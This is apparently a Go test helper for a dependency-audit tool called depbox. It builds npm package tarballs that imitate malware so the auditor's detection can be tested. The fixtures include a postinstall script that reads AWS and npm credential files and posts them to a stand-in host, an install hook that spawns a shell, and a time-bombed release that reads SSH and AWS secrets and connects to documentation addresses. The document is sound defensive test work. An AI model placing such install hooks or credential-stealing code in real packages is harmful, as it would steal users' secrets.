// Package audittest builds the npm package tarballs and Python wheels that
// audit tests feed to depbox audit. They are written with archive/tar,
// compress/gzip and archive/zip in the test itself: never published, never
// packed by npm or built by a Python build backend, and installed only with
// npm install --ignore-scripts or pip from wheels; wheels are served by a
// PEP 503 index on loopback (Index). The fixtures that imitate malware
// contact only *.invalid names and documentation addresses (192.0.2.0/24,
// 198.51.100.0/24, 203.0.113.0/24), and their code runs only inside
// depbox's sandbox.
package audittest

import (
	"archive/tar"
	"compress/gzip"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"
)

// Package is a package to write as a tarball.
type Package struct {
	Name, Version string
	// Scripts are its package.json scripts (lifecycle scripts among them).
	Scripts map[string]string
	// Files are its files besides package.json, by path inside the package.
	Files map[string]string
}

// Tarball writes p into dir as <name>-<version>.tgz, laid out like npm pack
// (everything under package/), and returns its path.
func Tarball(t testing.TB, dir string, p Package) string {
	t.Helper()
	pj := map[string]any{"name": p.Name, "version": p.Version, "main": "index.js", "license": "MIT"}
	if len(p.Scripts) > 0 {
		pj["scripts"] = p.Scripts
	}
	data, err := json.MarshalIndent(pj, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{"package.json": string(data) + "\n"}
	for k, v := range p.Files {
		files[k] = v
	}
	path := filepath.Join(dir, p.Name+"-"+p.Version+".tgz")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	gz := gzip.NewWriter(f)
	tw := tar.NewWriter(gz)
	names := make([]string, 0, len(files))
	for k := range files {
		names = append(names, k)
	}
	slices.Sort(names)
	mtime := time.Date(1985, 10, 26, 8, 15, 0, 0, time.UTC) // npm pack's fixed date
	for _, name := range names {
		body := files[name]
		h := &tar.Header{Name: "package/" + name, Mode: 0o644, Size: int64(len(body)), ModTime: mtime, Typeflag: tar.TypeReg}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

// The fixtures. Each names the evidence a test expects of it.
var (
	// Stealer's postinstall reads the bait files ~/.aws/credentials and
	// ~/.npmrc and posts them to collect.stealer.invalid:80.
	Stealer = Package{
		Name: "fixture-stealer", Version: "1.0.0",
		Scripts: map[string]string{"postinstall": "node steal.js"},
		Files: map[string]string{
			"index.js": "module.exports = function pad(s) { return ' ' + s; };\n",
			"steal.js": `// TEST FIXTURE imitating a credential stealer; runs only in depbox's sandbox.
const fs = require('fs'), os = require('os'), http = require('http');
let loot = '';
for (const f of ['.aws/credentials', '.npmrc']) {
  try { loot += fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (_) {}
}
const req = http.request({ host: 'collect.stealer.invalid', port: 80, path: '/c', method: 'POST', timeout: 1000 }, (res) => res.resume());
req.on('error', () => {});
req.on('timeout', () => req.destroy());
req.end(loot);
`,
		},
	}
	// Spawner's install script starts `sh -c "id; uname -s"`.
	Spawner = Package{
		Name: "fixture-spawner", Version: "1.0.0",
		Scripts: map[string]string{"install": "node setup.js"},
		Files: map[string]string{
			"index.js": "module.exports = 1;\n",
			"setup.js": `// TEST FIXTURE: an install script that starts a shell; runs only in depbox's sandbox.
require('child_process').spawnSync('sh', ['-c', 'id; uname -s'], { stdio: 'ignore' });
`,
		},
	}
	// Lazy does nothing at import; its exported function reads ~/.ssh/id_rsa
	// and connects to 198.51.100.23:443 when called.
	Lazy = Package{
		Name: "fixture-lazy", Version: "1.0.0",
		Files: map[string]string{
			"index.js": `// TEST FIXTURE: misbehaves only when its export is called; runs only in depbox's sandbox.
const fs = require('fs'), os = require('os'), net = require('net');
exports.format = function format(s) {
  try { fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); } catch (_) {}
  net.connect(443, '198.51.100.23').on('error', () => {});
  return String(s);
};
// A promise that never settles, with nothing keeping node's event loop
// alive: the harness must still finish and report (an unreferenced
// timeout let node exit first, which read as an incomplete analysis).
exports.wait = function wait() { return new Promise(() => {}); };
`,
		},
	}
	// SleeperOld is the harmless release of Sleeper.
	SleeperOld = Package{
		Name: "fixture-sleeper", Version: "1.0.0",
		Files: map[string]string{"index.js": "module.exports = function id(x) { return x; };\n"},
	}
	// Sleeper (the next release) sets a 10-minute timer at import whose
	// payload reads ~/.aws/credentials and connects to 203.0.113.9:443.
	Sleeper = Package{
		Name: "fixture-sleeper", Version: "1.1.0",
		Files: map[string]string{
			"index.js": `// TEST FIXTURE: a time bomb; runs only in depbox's sandbox.
const fs = require('fs'), os = require('os'), net = require('net');
setTimeout(function payload() {
  try { fs.readFileSync(os.homedir() + '/.aws/credentials'); } catch (_) {}
  net.connect(443, '203.0.113.9').on('error', () => {});
}, 10 * 60 * 1000);
module.exports = function id(x) { return x; };
`,
		},
	}
)
